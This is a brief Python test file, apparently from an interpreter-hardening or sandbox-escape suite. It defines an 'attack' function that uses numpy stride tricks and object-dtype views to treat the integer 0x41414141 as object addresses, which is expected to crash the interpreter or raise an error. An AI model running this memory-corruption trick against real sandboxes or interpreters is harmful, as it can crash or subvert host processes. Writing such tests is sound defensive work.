# Treats numbers as the addresses of objects.
#
# category = "interpreter"
# ending = ["crashed", "raised"]
import numpy as np


def attack():
    numbers = np.full(8, 0x41414141, dtype=np.int32)
    return repr(np.lib.stride_tricks.as_strided(numbers).view(np.dtype("O"))) + repr(numbers.view(object)[0])
